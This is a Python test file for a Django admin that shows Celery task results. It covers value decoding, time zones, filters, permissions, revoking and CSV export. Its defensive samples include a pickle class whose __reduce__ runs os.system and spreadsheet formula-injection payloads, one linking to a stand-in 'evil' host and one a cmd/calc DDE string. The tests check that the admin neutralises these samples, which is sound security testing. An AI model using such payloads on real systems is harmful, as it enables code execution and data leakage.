"""The admin over hand-made rows on every result database: decoding, safety, time, acting."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client, override_settings
from django.urls import reverse
from kombu.compression import compress

from celery_sa.models import TaskResult
from tests.support.databases import ResultDB, drop_result_tables
from tests.support.rows import insert_rows, row, wait_for_results
from tests.support.services import service_url
from tests.support.workers import running_worker

pytestmark = pytest.mark.django_db(transaction=True, databases="__all__")
CHANGELIST = "admin:celery_sa_taskresult_changelist"
SHANGHAI = ZoneInfo("Asia/Shanghai")


class Hostile:
    """Unpickling this would create a file: the admin must never do it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.path}",))


def task_page(client: Client, task_id: str) -> str:
    pk = TaskResult.objects.get(task_id=task_id).pk
    response = client.get(reverse("admin:celery_sa_taskresult_change", args=[pk]))
    assert response.status_code == 200
    return response.text


def test_values_are_decoded_and_pretty_printed(result_db: ResultDB, admin_client: Client) -> None:
    insert_rows(row("decoded", result=json.dumps({"answer": 42, "items": [1, 2]}).encode()))
    page = task_page(admin_client, "decoded")
    assert "{\n  &quot;answer&quot;: 42,\n  &quot;items&quot;: [\n    1," in page
    assert "[\n  1,\n  2\n]" in page


def test_old_pickled_rows_show_plain_values_and_hostile_ones_run_nothing(
    result_db: ResultDB, admin_client: Client, tmp_path: Path
) -> None:
    victim = tmp_path / "pwned"
    insert_rows(
        row("legacy", result=pickle.dumps({"answer": 42}, protocol=2)),
        row("hostile", result=pickle.dumps(Hostile(str(victim)))),
        row("exception", status="FAILURE", result=pickle.dumps(ValueError("boom"))),
    )
    assert "&quot;answer&quot;: 42" in task_page(admin_client, "legacy")
    hostile = task_page(admin_client, "hostile")
    assert "pickle of posix.system (not executed)" in hostile
    exception = task_page(admin_client, "exception")
    assert "pickle of builtins.ValueError (not executed)" in exception
    response = admin_client.post(
        reverse(CHANGELIST),
        {
            "action": "export_csv",
            "_selected_action": [TaskResult.objects.get(task_id="hostile").pk],
        },
    )
    assert b"pickle of posix.system (not executed)" in b"".join(response.streaming_content)
    assert not victim.exists()


def test_the_export_writes_no_cell_a_spreadsheet_runs_as_a_formula(
    embedded_result_db: ResultDB, admin_client: Client
) -> None:
    insert_rows(
        row(
            "formulas",
            name='=HYPERLINK("http://evil/"&A1,"x")',
            worker="+w",
            traceback="@SUM(1+1)*cmd|' /C calc'!A0",
            result=b"-1",
        ),
    )
    response = admin_client.post(
        reverse(CHANGELIST),
        {
            "action": "export_csv",
            "_selected_action": [TaskResult.objects.get(task_id="formulas").pk],
        },
    )
    (exported,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert exported["name"] == '\'=HYPERLINK("http://evil/"&A1,"x")'
    assert exported["worker"] == "'+w"
    assert exported["traceback"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert exported["result"] == "'-1"
    assert exported["task_id"] == "formulas"


def test_a_deeply_nested_pickle_is_shown_as_a_marker_on_the_page_and_in_the_export(
    embedded_result_db: ResultDB, admin_client: Client
) -> None:
    # 100,000 nested lists: printing them would pass Python's recursion limit (a 500 before).
    nested = b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."
    insert_rows(row("nested", result=nested, args=nested))
    marker = "nested deeper than 100 levels: not shown"
    assert marker in task_page(admin_client, "nested")
    pk = TaskResult.objects.get(task_id="nested").pk
    response = admin_client.post(
        reverse(CHANGELIST), {"action": "export_csv", "_selected_action": [pk]}
    )
    assert marker in b"".join(response.streaming_content).decode()


def test_corrupt_and_10_mb_values_render_fast_with_a_marker(
    result_db: ResultDB, admin_client: Client
) -> None:
    insert_rows(
        row("corrupt", result=b"\xff\xfe{not json"),
        row("huge", result=b'"' + b"x" * (10 * 1024 * 1024) + b'"'),
    )
    assert "cannot be decoded as json: DecodeError" in task_page(admin_client, "corrupt")
    started = time.perf_counter()
    huge = task_page(admin_client, "huge")
    elapsed = time.perf_counter() - started
    assert "10.0 MB: too large to decode here" in huge
    assert len(huge) < 100_000  # a preview, not the value
    assert elapsed < 2.0, elapsed
    listing = admin_client.get(reverse(CHANGELIST))
    assert listing.status_code == 200 and "huge" in listing.text


def test_date_done_is_the_real_completion_time_in_the_users_zone(
    result_db: ResultDB, admin_client: Client
) -> None:
    # 05:32 UTC, stored as Celery stores it: wall time in Celery's zone (TIME_ZONE) on
    # MySQL/SQLite, in the database's default zone (UTC here) on PostgreSQL.
    done = datetime(2026, 5, 1, 5, 32, tzinfo=UTC)
    zone = UTC if result_db.name == "postgresql" else SHANGHAI
    with override_settings(TIME_ZONE="Asia/Shanghai"):
        insert_rows(row("timed", date_done=done.astimezone(zone).replace(tzinfo=None)))
        assert TaskResult.objects.get(task_id="timed").date_done == done
        # Filters select by real time too.
        assert TaskResult.objects.filter(date_done__gte=done, task_id="timed").exists()
        assert not TaskResult.objects.filter(
            date_done__gte=done + timedelta(minutes=1), task_id="timed"
        ).exists()
        assert "May 1, 2026, 1:32 p.m." in task_page(admin_client, "timed")


def test_filters_and_search_select_the_right_rows(
    result_db: ResultDB, admin_client: Client
) -> None:
    insert_rows(
        row("a-1", status="FAILURE", name="app.tasks.alpha", worker="w1@h", queue="q1"),
        row("b-2", status="SUCCESS", name="app.tasks.beta", worker="w2@h", queue="q2"),
    )
    url = reverse(CHANGELIST)
    cases = {
        "status=FAILURE": "a-1",
        "name=app.tasks.beta": "b-2",
        "worker=w1%40h": "a-1",
        "queue=q2": "b-2",
        "q=a-1": "a-1",
        "q=app.tasks.be": "b-2",
    }
    for query, expected in cases.items():
        page = admin_client.get(f"{url}?{query}").text
        other = {"a-1", "b-2"} - {expected}
        assert f">{expected}<" in page, query
        assert f">{other.pop()}<" not in page, query


def test_missing_tables_show_the_command_that_creates_them(
    result_db: ResultDB, admin_client: Client
) -> None:
    drop_result_tables()
    response = admin_client.get(reverse(CHANGELIST), follow=True)
    assert response.status_code == 200
    assert "python manage.py celery_sa_tables upgrade" in response.text


def test_the_admin_is_view_only_and_acting_needs_permissions(
    embedded_result_db: ResultDB, client: Client
) -> None:
    insert_rows(row("viewed"))
    viewer = User.objects.create_user("viewer", password="pw", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_taskresult"))
    client.force_login(viewer)
    page = client.get(reverse(CHANGELIST)).text
    assert "viewed" in page
    for action in ("rerun", "revoke", "delete_selected"):
        assert f'value="{action}"' not in page
    assert "export_csv" in page
    assert client.get(reverse("admin:celery_sa_taskresult_add")).status_code == 403
    pk = TaskResult.objects.get(task_id="viewed").pk
    change = reverse("admin:celery_sa_taskresult_change", args=[pk])
    assert client.post(change, {"status": "FAILURE"}).status_code == 403
    assert TaskResult.objects.get(pk=pk).status == "SUCCESS"


def test_revoke_broadcasts_only_the_unfinished_tasks(
    embedded_result_db: ResultDB, admin_client: Client, sqla_broker: str, actions_on: Any
) -> None:
    actions_on(sqla_broker)
    insert_rows(row("running", status="STARTED", date_done=None), row("finished"))
    ids = list(TaskResult.objects.values_list("pk", flat=True))
    response = admin_client.post(
        reverse(CHANGELIST), {"action": "revoke", "_selected_action": ids}, follow=True
    )
    assert [str(m) for m in response.context["messages"]] == ["Revoked 1 unfinished task."]


def test_compressed_results_are_decoded(embedded_result_db: ResultDB, admin_client: Client) -> None:
    # As Celery 5.7 writes it with result_compression = "gzip": marker, method, body. The
    # admin reads it whatever Celery is installed beside it.
    body, method = compress(b'{"packed": true}', "gzip")
    packed = b"\x00celery-compressed\x00" + method.encode() + b"\x00" + body
    insert_rows(row("packed", result=packed))
    assert "&quot;packed&quot;: true" in task_page(admin_client, "packed")


def test_the_configured_serializer_is_used_and_pickle_still_never_runs(
    embedded_result_db: ResultDB, admin_client: Client, tmp_path: Path
) -> None:
    victim = tmp_path / "pwned"
    insert_rows(
        row("plain", result=pickle.dumps([1, "two", None])),
        row("evil", result=pickle.dumps(Hostile(str(victim)))),
    )
    with override_settings(CELERY_RESULT_SERIALIZER="pickle", CELERY_ACCEPT_CONTENT=["pickle"]):
        assert "&quot;two&quot;" in task_page(admin_client, "plain")
        assert "pickle of posix.system (not executed)" in task_page(admin_client, "evil")
    assert not victim.exists()


@pytest.mark.services("redis")
def test_revoking_a_retrying_task_in_the_admin_stops_its_next_attempt(
    embedded_result_db: ResultDB, admin_client: Client, tmp_path: Path, actions_on: Any
) -> None:
    broker = service_url("redis")
    with running_worker(
        tmp_path,
        result_url=embedded_result_db.url,
        broker_url=broker,
        CELERY_IMPORTS="tests.support.worker_tasks",
    ) as worker:
        task_id = (
            actions_on(broker)
            .send_task("tests.support.worker_tasks.retry_later", (4,), queue=worker.queue)
            .id
        )
        deadline = time.monotonic() + 30
        while not TaskResult.objects.filter(task_id=task_id, status="RETRY").exists():
            assert time.monotonic() < deadline, worker.output
            time.sleep(0.2)
        pk = TaskResult.objects.get(task_id=task_id).pk
        response = admin_client.post(
            reverse(CHANGELIST), {"action": "revoke", "_selected_action": [pk]}, follow=True
        )
        assert [str(m) for m in response.context["messages"]] == ["Revoked 1 unfinished task."]
        wait_for_results([task_id], worker, timeout=30)
    assert TaskResult.objects.get(task_id=task_id).status == "REVOKED"
